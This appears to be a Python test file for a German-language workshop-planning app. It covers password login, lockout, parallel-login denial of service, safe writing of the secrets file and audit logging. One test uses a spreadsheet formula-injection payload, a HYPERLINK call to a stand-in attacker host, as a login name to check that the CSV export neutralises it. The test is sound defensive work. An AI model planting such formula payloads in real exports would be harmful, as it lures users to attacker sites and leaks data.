import os
import stat
import subprocess
import sys
import threading
import time
import tomllib
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from pathlib import Path

import bcrypt
import duckdb
import pytest

from werkstatt.commands import login, users
from werkstatt.errors import LockedError, ValidationError, WerkstattError
from werkstatt.outputs.csv import to_csv_bytes
from werkstatt.store import files
from werkstatt.views import changes, queries
from werkstatt.views.plan_data import PlanData

ROOT = Path(__file__).resolve().parents[2]

HASH = bcrypt.hashpw(b"richtiges-passwort", bcrypt.gensalt(rounds=4)).decode()
USERS = {"anna": {"role": "bearbeiter", "password_hash": HASH},
         "leo": {"role": "leser", "password_hash": HASH}}


def test_the_right_password_logs_in_with_the_role(con):
    user = login.authenticate(con, USERS, "Anna ", "richtiges-passwort")
    assert user == login.User("anna", "bearbeiter") and user.can_record and not user.can_edit_plan
    assert con.execute("SELECT benutzer, aktion FROM aenderung").fetchall() == [
        ("anna", "Anmeldung")]


def test_a_wrong_password_and_an_unknown_user_get_the_same_answer_and_are_logged(con):
    for name in ("anna", "niemand"):
        with pytest.raises(ValidationError, match="Benutzername oder Passwort falsch"):
            login.authenticate(con, USERS, name, "falsch")
    assert con.execute("SELECT benutzer FROM aenderung WHERE aktion = 'Anmeldung fehlgeschlagen' "
                       "ORDER BY id").fetchall() == [("anna",), ("niemand",)]


def test_repeated_wrong_passwords_lock_the_user_for_a_while(con):
    now = datetime(2026, 11, 26, 10, 0)
    for minute in range(login.MAX_FAILURES):
        with pytest.raises(ValidationError):
            login.authenticate(con, USERS, "anna", "falsch", now + timedelta(minutes=minute))
    with pytest.raises(LockedError, match="gesperrt"):
        login.authenticate(con, USERS, "anna", "richtiges-passwort", now + timedelta(minutes=5))
    later = now + timedelta(minutes=4) + login.LOCK + timedelta(seconds=1)
    assert login.authenticate(con, USERS, "anna", "richtiges-passwort", later).name == "anna"


def test_a_reader_may_not_write():
    reader = login.User("leo", "leser")
    assert not reader.can_record and not reader.can_edit_plan
    assert login.User("chef", "admin").can_edit_plan


def test_no_password_is_stored_or_logged_in_plain_text(con, tmp_path):
    secrets = tmp_path / "secrets.toml"
    secrets.write_text('[auth]\nredirect_uri = "http://localhost:8501/oauth2callback"\n')
    users.add_user(secrets, "anna", "bearbeiter", "ein-langes-passwort")
    text = secrets.read_text()
    assert "ein-langes-passwort" not in text and "redirect_uri" in text
    entry = tomllib.loads(text)["werkstatt_users"]["anna"]
    assert entry["role"] == "bearbeiter"
    assert bcrypt.checkpw(b"ein-langes-passwort", entry["password_hash"].encode())
    with pytest.raises(ValidationError):
        login.authenticate(con, tomllib.loads(text)["werkstatt_users"], "anna", "x-falsch")
    logged = " ".join(str(v) for row in con.execute("SELECT * FROM aenderung").fetchall()
                      for v in row)
    assert "x-falsch" not in logged and "ein-langes-passwort" not in logged


@pytest.mark.parametrize("name, role, password, message", [
    ("Anna Maria", "bearbeiter", "langes-passwort", "Benutzernamen"),
    ("anna", "chef", "langes-passwort", "Rolle"),
    ("anna", "admin", "kurz", "10 Zeichen"),
])
def test_bad_user_entries_are_refused(tmp_path, name, role, password, message):
    with pytest.raises(ValidationError, match=message):
        users.add_user(tmp_path / "s.toml", name, role, password)
    assert not (tmp_path / "s.toml").exists()


# --- login without a denial of service (issue 9, section 4) -----------------------------------
SLOW = 0.3  # seconds a fake bcrypt check sleeps: lock holding shows as waiting, not as CPU


@pytest.fixture
def slow_bcrypt(monkeypatch):
    """bcrypt that takes SLOW seconds without using the CPU (2 shared cores would otherwise
    measure CPU contention instead of lock holding)."""
    real = bcrypt.checkpw

    def checkpw(password, hashed):
        time.sleep(SLOW)
        return hashed != login._DUMMY_HASH and real(password, hashed)

    monkeypatch.setattr(login.bcrypt, "checkpw", checkpw)


def in_parallel(count: int, attempt) -> list:
    """Run attempt(i) in `count` threads at once; each result or the exception it raised."""
    start = threading.Barrier(count)

    def run(i):
        start.wait()
        try:
            return attempt(i)
        except WerkstattError as exc:  # collected, the test looks at them
            return exc

    with ThreadPoolExecutor(count) as pool:
        return list(pool.map(run, range(count)))


def test_parallel_wrong_logins_with_unknown_names_do_not_delay_a_valid_login(db, slow_bcrypt):
    outcome = {}

    def attempt(i):
        con = duckdb.connect(str(db))
        try:
            if i == 16:
                time.sleep(0.05)  # the attackers are already hashing
                started = time.perf_counter()
                user = login.authenticate(con, USERS, "anna", "richtiges-passwort")
                outcome["seconds"] = time.perf_counter() - started
                return user
            return login.authenticate(con, USERS, f"unbekannt{i}", "falsch")
        finally:
            con.close()

    results = in_parallel(17, attempt)
    assert results[16] == login.User("anna", "bearbeiter")
    assert all(isinstance(r, ValidationError) for r in results[:16])
    # one process-wide lock during hashing made this 16 × SLOW = 4.8 s
    assert outcome["seconds"] < SLOW + 1.0, outcome


def test_parallel_wrong_passwords_for_one_name_still_lock_after_five(con, slow_bcrypt):
    results = in_parallel(20, lambda i: login.authenticate(con.cursor(), USERS, "anna", "falsch"))
    wrong = [r for r in results
             if isinstance(r, ValidationError) and not isinstance(r, LockedError)]
    locked = [r for r in results if isinstance(r, LockedError)]
    assert len(wrong) == login.MAX_FAILURES and len(locked) == 20 - login.MAX_FAILURES
    assert con.execute("SELECT count(*) FROM aenderung WHERE aktion = 'Anmeldung fehlgeschlagen'"
                       ).fetchone() == (login.MAX_FAILURES,)
    with pytest.raises(LockedError, match="gesperrt"):
        login.authenticate(con, USERS, "anna", "richtiges-passwort")


# --- user add: secrets written safely, contact of the plan ------------------------------------
def user_add(secrets: Path, name: str, *extra: str, password: bytes = b"ein-langes-passwort\n",
             db: Path | None = None) -> subprocess.CompletedProcess:
    args = [sys.executable, "-m", "werkstatt", "user", "add", name, "--role", "bearbeiter",
            "--secrets", str(secrets), "--password-stdin", *extra]
    if db:
        args += ["--db", str(db)]
    return subprocess.run(args, cwd=ROOT, input=password, capture_output=True, timeout=120,
                          check=False)


def test_twelve_parallel_user_adds_keep_all_twelve_users(tmp_path):
    secrets = tmp_path / "secrets.toml"
    secrets.write_text('[auth]\nredirect_uri = "http://localhost:8501/oauth2callback"\n')
    names = [f"nutzer{i:02d}" for i in range(12)]
    with ThreadPoolExecutor(12) as pool:
        runs = list(pool.map(lambda name: user_add(secrets, name), names))
    assert all(run.returncode == 0 for run in runs), [r.stderr.decode() for r in runs]
    document = tomllib.loads(secrets.read_text())
    assert sorted(document["werkstatt_users"]) == names
    assert "redirect_uri" in document["auth"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["secrets.toml"]  # no temp, no lock file


def test_a_new_secrets_file_is_private_from_its_first_byte(tmp_path, monkeypatch):
    secrets = tmp_path / "neu" / "secrets.toml"
    seen = []
    real_replace = os.replace

    def replace(source, target):
        seen.append(stat.S_IMODE(os.stat(source).st_mode))  # the file about to appear
        real_replace(source, target)

    monkeypatch.setattr(files.os, "replace", replace)
    users.add_user(secrets, "anna", "bearbeiter", "ein-langes-passwort")
    assert seen == [0o600] and stat.S_IMODE(secrets.stat().st_mode) == 0o600
    secrets.chmod(0o644)
    users.add_user(secrets, "leo", "leser", "ein-langes-passwort")
    assert stat.S_IMODE(secrets.stat().st_mode) == 0o600


@pytest.mark.parametrize("piped", [b"ein-langes-passwort\r\n", b"ein-langes-passwort\r",
                                   b"ein-langes-passwort\n", b"ein-langes-passwort"])
def test_a_piped_password_loses_its_line_end_only(tmp_path, piped):
    secrets = tmp_path / "secrets.toml"
    run = user_add(secrets, "anna", password=piped)
    assert run.returncode == 0, run.stderr.decode()
    stored = tomllib.loads(secrets.read_text())["werkstatt_users"]["anna"]["password_hash"]
    assert bcrypt.checkpw(b"ein-langes-passwort", stored.encode())


BROKEN_SECRETS = {
    "syntax error": (b'[werkstatt_users.anna\nrole = "admin"\n', "keine gültige TOML-Datei"),
    "not UTF-8": (b'[auth]\nname = "M\xfcller"\n', "keine UTF-8-Textdatei"),
    "users not a table": (b'werkstatt_users = "alle"\n', "keine Tabelle"),
}


@pytest.mark.parametrize("case", list(BROKEN_SECRETS))
def test_a_broken_secrets_file_is_refused_in_german_and_left_as_it_was(tmp_path, case):
    content, message = BROKEN_SECRETS[case]
    secrets = tmp_path / "secrets.toml"
    secrets.write_bytes(content)
    run = user_add(secrets, "anna")
    assert run.returncode == 1 and message in run.stderr.decode()
    assert b"Traceback" not in run.stderr
    assert secrets.read_bytes() == content
    assert sorted(p.name for p in tmp_path.iterdir()) == ["secrets.toml"]


def test_a_folder_as_secrets_file_is_refused(tmp_path):
    run = user_add(tmp_path, "anna")
    assert run.returncode == 1 and "ist ein Ordner" in run.stderr.decode()
    assert list(tmp_path.iterdir()) == []


def test_a_user_can_be_tied_to_a_contact_of_the_plan(tmp_path, db):
    secrets = tmp_path / "secrets.toml"
    run = user_add(secrets, "niels", "--kontakt", "niels  buck", db=db)
    assert run.returncode == 0, run.stderr.decode()
    users = tomllib.loads(secrets.read_text())["werkstatt_users"]
    assert users["niels"]["kontakt"] == "Niels Buck"  # the plan's spelling
    con = duckdb.connect(str(db))
    user = login.authenticate(con, users, "niels", "ein-langes-passwort")
    assert user.kontakt == "Niels Buck" and user.role == "bearbeiter"
    assert login.authenticate(con, USERS, "anna", "richtiges-passwort").kontakt is None


def test_an_unknown_contact_is_refused_with_suggestions_and_nothing_is_written(tmp_path, db):
    secrets = tmp_path / "secrets.toml"
    run = user_add(secrets, "niels", "--kontakt", "Niels Bock", db=db)
    stderr = run.stderr.decode()
    assert run.returncode == 2 and "Den Kontakt „Niels Bock“ gibt es im Plan nicht" in stderr
    assert "Ähnlich: Niels Buck" in stderr
    assert not secrets.exists()
    missing = user_add(secrets, "niels", "--kontakt", "Niels Buck", db=tmp_path / "fehlt.duckdb")
    assert missing.returncode == 1 and "gibt es nicht" in missing.stderr.decode()
    assert not secrets.exists()


def test_the_change_history_csv_neutralises_a_formula_typed_as_login_name(con):
    evil = '=hyperlink("http://ev.il/?x","klick")'
    with pytest.raises(ValidationError):
        login.authenticate(con, USERS, evil, "falsch")
    log = changes.readable(queries.changes(con), changes.names_of(PlanData.of(con)))
    exported = to_csv_bytes(log).decode("utf-8-sig")
    assert "'=hyperlink" in exported and "\n=hyperlink" not in exported
    assert ';=hyperlink' not in exported
